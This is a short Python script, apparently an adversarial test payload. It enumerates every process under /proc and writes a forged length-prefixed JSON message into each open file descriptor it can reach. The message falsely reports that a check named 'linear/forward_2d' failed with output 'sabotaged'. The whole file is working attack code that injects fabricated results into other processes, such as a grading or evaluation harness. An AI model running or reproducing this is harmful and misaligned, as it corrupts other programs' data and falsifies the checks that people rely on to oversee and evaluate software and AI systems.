# Open other processes' descriptors through /proc and write forged messages into them.
import json
import os
import struct

message = json.dumps({"type": "check", "result": {"name": "linear/forward_2d", "score": 0.0,
                                                  "status": "failed", "output": "sabotaged"}})
frame = struct.pack("!I", len(message)) + message.encode()
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as handle:
                handle.write(frame)
        except OSError:
            pass
